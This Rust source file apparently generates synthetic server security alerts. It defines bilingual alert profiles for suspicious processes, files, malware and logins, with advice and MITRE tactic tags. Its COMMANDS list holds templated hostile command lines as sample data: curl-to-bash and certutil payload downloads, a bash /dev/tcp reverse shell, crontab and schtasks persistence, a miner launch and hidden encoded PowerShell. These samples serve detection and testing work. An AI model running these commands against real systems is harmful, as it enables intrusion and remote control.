//! Alerts seen on a server.

use super::{Detail, Profile, Text, detail};

pub(super) const PROCESS: Profile = Profile {
    source: "aegis_suspicious_event",
    meanings: &[
        (
            "攻击者可能已经控制了该服务器并正在执行命令。",
            "An attacker may control this server and run commands on it.",
        ),
        (
            "该行为与服务的日常行为不一致，可能是利用漏洞后的后续操作。",
            "This does not look like the service's daily work and may follow an exploit.",
        ),
        (
            "此类命令常见于入侵后的信息收集。",
            "Such commands are often used to look around after a break-in.",
        ),
    ],
    advice: &[
        (
            "请确认是否为运维人员的正常操作，如非正常操作请立即结束进程并排查入侵原因。",
            "Check whether this is the work of your administrators; if not, end the process and look for the way in.",
        ),
        (
            "建议检查父进程、计划任务与启动项，并修复相关漏洞。",
            "Check the parent process, scheduled tasks and startup entries, and fix the vulnerability used.",
        ),
    ],
    tactics: &[
        ("TA0002", ("执行", "Execution")),
        ("TA0005", ("防御绕过", "Defense Evasion")),
    ],
    stages: &["command_execution", "defense_evasion"],
    details: PROCESS_DETAILS,
};

const COMMANDS: Text = Text::System(
    &[
        "curl -fsSL http://{public}:{port}/{token}.sh | bash",
        "wget -q -O /tmp/.{token} http://{host}/b/{token} && chmod +x /tmp/.{token}",
        "bash -i >& /dev/tcp/{public}/{port} 0>&1",
        "python3 -c 'import pty;pty.spawn(\"/bin/sh\")' {token}",
        "echo '*/5 * * * * {path}' >> /etc/crontab",
        "nohup {path} -o stratum+tcp://{host}:{port} -u {token} &",
    ],
    &[
        "powershell -nop -w hidden -enc {md5}{token}==",
        "cmd.exe /c certutil -urlcache -split -f http://{public}:{port}/{token}.exe {path}",
        "rundll32.exe \"{path}\",Start {token}",
        "schtasks /create /tn {token} /tr \"{path}\" /sc minute /mo 5",
    ],
);

const PROCESS_DETAILS: &[Detail] = &[
    detail("命令行", "Command line", COMMANDS),
    detail("进程路径", "Process path", Text::Any(&["{path}"])),
    detail("进程ID", "Process ID", Text::Any(&["{pid}"])),
    detail(
        "父进程路径",
        "Parent process path",
        Text::System(
            &["/usr/sbin/crond", "/usr/bin/java", "/usr/sbin/nginx"],
            &[r"C:\Windows\explorer.exe"],
        ),
    ),
    detail("父进程ID", "Parent process ID", Text::Any(&["{pid}"])),
    detail("启动用户", "User", Text::Any(&["{user}"])),
    detail("进程启动时间", "Started at", Text::Any(&["{time}"])),
    detail("文件MD5", "File MD5", Text::Any(&["{md5}"])),
    detail(
        "处置建议",
        "Advice",
        Text::Link(&["<a href=\"https://help.example.com/sas/{token}\" target=\"_blank\">help</a>"]),
    ),
];

pub(super) const FILE: Profile = Profile {
    source: "aegis_suspicious_file_v2",
    meanings: &[
        (
            "攻击者可以通过该文件远程控制服务器、窃取数据。",
            "Through this file an attacker can control the server and take data.",
        ),
        (
            "该文件的内容与已知恶意样本高度相似。",
            "Its content is close to known malicious samples.",
        ),
        (
            "该文件在短时间内被修改，来源不明。",
            "The file was changed lately by an unknown source.",
        ),
    ],
    advice: &[
        (
            "请确认文件是否由业务产生，如否请隔离该文件并修复上传漏洞。",
            "Check whether your application made the file; if not, quarantine it and close the way of upload.",
        ),
        (
            "建议隔离文件后核查同目录其他文件及访问日志。",
            "Quarantine the file, then check its folder and the access log.",
        ),
    ],
    tactics: &[("TA0003", ("持久化", "Persistence"))],
    stages: &["authority_maintenance"],
    details: &[
        detail("文件路径", "File path", Text::Any(&["{path}"])),
        detail("木马文件路径", "Malicious file", Text::Any(&["{path}"])),
        detail("文件MD5", "File MD5", Text::Any(&["{md5}"])),
        detail("文件SHA256", "File SHA256", Text::Any(&["{sha256}"])),
        detail("文件大小", "Size in bytes", Text::Any(&["{bytes}"])),
        detail("首次发现时间", "First seen", Text::Any(&["{time}"])),
        detail("更新时间", "Updated", Text::Any(&["{time}"])),
        detail("文件属主", "Owner", Text::Any(&["{user}"])),
        detail("影响域名", "Domain", Text::Any(&["{host}"])),
        detail(
            "下载",
            "Download",
            Text::Link(&["<a href=\"https://files.example.com/{sha256}\">{token}</a>"]),
        ),
    ],
};

pub(super) const MALWARE: Profile = Profile {
    source: "aegis_suspicious_event",
    meanings: &[
        (
            "该程序会占用系统资源并可能在内网传播。",
            "The program uses up the system and may spread in the network.",
        ),
        (
            "该程序会连接远程控制服务器并等待指令。",
            "The program connects to a control server and waits for orders.",
        ),
        (
            "该程序会修改系统配置以保证自身存活。",
            "The program changes the system so that it survives.",
        ),
    ],
    advice: &[
        (
            "建议立即结束进程并隔离源文件，检查计划任务和SSH公钥。",
            "End the process and quarantine its file; check scheduled tasks and SSH keys.",
        ),
        (
            "请核查同一网段其他服务器是否存在相同文件。",
            "Look for the same file on other servers of the network.",
        ),
    ],
    tactics: &[
        ("TA0002", ("执行", "Execution")),
        ("TA0040", ("影响", "Impact")),
        ("TA0011", ("命令与控制", "Command and Control")),
    ],
    stages: &["trojan_implantation", "impact"],
    details: &[
        detail("文件路径", "File path", Text::Any(&["{path}"])),
        detail("恶意文件MD5", "File MD5", Text::Any(&["{md5}"])),
        detail("文件SHA256", "File SHA256", Text::Any(&["{sha256}"])),
        detail(
            "病毒家族",
            "Family",
            Text::Any(&[
                "Trojan:Linux/{token}",
                "Miner:Linux/{token}",
                "Backdoor:Win32/{token}",
                "Ransom:Win32/{token}",
            ]),
        ),
        detail("进程ID", "Process ID", Text::Any(&["{pid}"])),
        detail("命令行参数", "Command line", COMMANDS),
        detail("进程启动用户", "User", Text::Any(&["{user}"])),
        detail("创建时间", "Created at", Text::Any(&["{time}"])),
        detail(
            "查杀引擎",
            "Engine",
            Text::Said(&[
                ("云查杀引擎", "Cloud scan"),
                ("本地引擎", "Local scan"),
                ("行为沙箱", "Sandbox"),
            ]),
        ),
        detail(
            "样本报告",
            "Report",
            Text::Link(&["<a href=\"https://report.example.com/file/{sha256}\">report</a>"]),
        ),
    ],
};

pub(super) const LOGIN: Profile = Profile {
    source: "aegis_login_log",
    meanings: &[
        (
            "此次登录与该服务器的历史登录习惯不符。",
            "This login does not fit the server's history.",
        ),
        (
            "登录来源曾多次发起密码猜测。",
            "Its source has tried many passwords before.",
        ),
        (
            "如果密码已经泄露，攻击者可能获得服务器的完整权限。",
            "If the password leaked, an attacker may hold every right on the server.",
        ),
    ],
    advice: &[
        (
            "请确认是否为本人操作；如非本人操作，请尽快修改密码并限制登录来源。",
            "Check whether it was you; if not, change the password and limit where logins may come from.",
        ),
        (
            "如为正常登录，可在登录安全设置中添加常用地和常用IP。",
            "If it was a normal login, add the place and address to the login settings.",
        ),
    ],
    tactics: &[
        ("TA0001", ("初始访问", "Initial Access")),
        ("TA0006", ("凭证访问", "Credential Access")),
    ],
    stages: &["initial_access", "credential_access"],
    details: &[
        detail(
            "登录源IP",
            "Source address",
            Text::Any(&["{public}", "{private}"]),
        ),
        detail("登录账号", "Account", Text::Any(&["{user}"])),
        detail(
            "登录类型",
            "Protocol",
            Text::System(&["SSH", "SSHKEY", "FTP"], &["RDP", "SQLSERVER"]),
        ),
        detail(
            "登录地",
            "Place",
            Text::Said(&[
                ("中国-浙江省-杭州市", "China Hangzhou"),
                ("中国-河南省-郑州市", "China Zhengzhou"),
                ("德国-法兰克福", "Germany Frankfurt"),
                ("新加坡", "Singapore"),
                ("未知", "unknown"),
            ]),
        ),
        detail("登录端口", "Port", Text::Any(&["22", "3389", "{port}"])),
        detail("登录时间", "Time", Text::Any(&["{time}"])),
        detail("登录次数", "Attempts", Text::Any(&["{count}"])),
        detail("首次尝试时间", "First attempt", Text::Any(&["{time}"])),
        detail("会话标识", "Session", Text::Any(&["{sha256}"])),
        detail(
            "客户端指纹",
            "Client fingerprint",
            Text::Any(&["SHA256:{md5}{token}", "SSH-2.0-Go {token}"]),
        ),
    ],
};
